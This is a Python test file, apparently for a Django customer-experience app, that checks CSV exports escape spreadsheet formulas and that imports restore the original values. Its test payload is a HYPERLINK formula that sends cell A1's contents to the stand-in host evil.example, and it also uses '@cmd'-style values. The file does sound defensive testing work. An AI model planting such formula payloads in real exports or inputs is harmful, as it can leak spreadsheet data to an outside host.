"""Every CSV CX Pilot writes neutralises spreadsheet formulas (a respondent's text must not
become a live formula in the CX team's spreadsheet), and its import formats read back what
it exported."""

from __future__ import annotations

import csv
import io
import json

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from typer.testing import CliRunner

from cxpilot.cli import app
from cxpilot.governance.models import Activity
from cxpilot.governance.services import catalogue_sync, raci_cells_set
from cxpilot.maturity.exports import roadmap_csv
from cxpilot.surveys import services as surveys
from cxpilot.warehouse.connection import warehouse
from cxpilot.warehouse.inbox import inbox_flush
from cxpilot.warehouse.services import table_import

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
runner = CliRunner()


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def no_formula(text: str) -> bool:
    return not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells(text))


def test_the_raci_export_neutralises_a_hostile_activity_and_imports_it_back(org, lead, tmp_path):
    catalogue_sync()
    raci_cells_set(actor=None, cells={("voc_programme", "ecommerce"): "A/R"})
    Activity.objects.filter(key="voc_programme").update(name_en=FORMULA, name_fr=FORMULA)
    text = lead.get("/governance/raci/export.csv").content.decode()
    assert "'" + FORMULA in cells(text) and no_formula(text)
    upload = SimpleUploadedFile("raci.csv", text.encode())
    lead.post("/governance/raci/import/", {"file": upload})
    assert Activity.objects.get(key="voc_programme").name_en == FORMULA  # read back as it was
    path = tmp_path / "raci.csv"
    path.write_text(text, encoding="utf-8")
    result = runner.invoke(app, ["governance", "import", str(path), "-f", "json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["cells_changed"] == 0


def test_a_respondents_text_through_the_public_api_is_no_formula_in_the_cases_csv(org):
    survey = surveys.survey_create(
        actor=None,
        definition={
            "key": "nps-web",
            "title": {"en": "Your opinion"},
            "touchpoints": ["website"],
            "questions": [
                {"key": "q1", "kind": "nps", "text": {"en": "Recommend us?"}},
                {"key": "q2", "kind": "text", "text": {"en": "Why?"}},
            ],
        },
    )
    response = Client().post(
        "/api/v1/responses",
        json.dumps(
            {"answers": {"q1": 2, "q2": FORMULA}, "customer_id": "@cmd", "touchpoint": "website"}
        ),
        content_type="application/json",
        HTTP_X_SURVEY_KEY=survey.public_key,
    )
    assert response.status_code == 202, response.content
    inbox_flush()
    result = runner.invoke(app, ["cases", "list", "-f", "csv"])
    assert result.exit_code == 0, result.output
    assert "'" + FORMULA in cells(result.stdout) and "'@cmd" in cells(result.stdout)
    assert no_formula(result.stdout)


def test_the_roadmap_csv_neutralises_its_cells():
    row = {
        "horizon": "quick win",
        "priority": 1,
        "action": FORMULA,
        "name": "-cmd",
        "impact": 3,
        "effort": -1,
    }
    text = roadmap_csv([{**{c: "" for c in _roadmap_columns()}, **row}])
    assert no_formula(text.replace(",-1", ",x"))  # a number stays a number
    assert "'" + FORMULA in cells(text)


def _roadmap_columns() -> tuple[str, ...]:
    from cxpilot.maturity.exports import COLUMNS

    return tuple(COLUMNS)


def test_an_exported_cell_imports_back_as_it_was(org, tmp_path):
    path = tmp_path / "answers.csv"
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(
        ["response_id", "customer_id", "touchpoint", "timestamp", "metric", "score", "verbatim"]
    )
    writer.writerow(["r1", "'@c1", "website", "2025-03-01", "nps", 9, "'" + FORMULA])
    writer.writerow(["r2", "c2", "website", "2025-03-01", "nps", 9, "'=plain"])
    path.write_text(out.getvalue(), encoding="utf-8")
    table_import(table="responses", path=path, source="s")
    with warehouse() as con:
        rows = con.table("responses").order_by("response_id").to_pyarrow().to_pylist()
    assert [(r["customer_id"], r["verbatim"]) for r in rows] == [("@c1", FORMULA), ("c2", "=plain")]
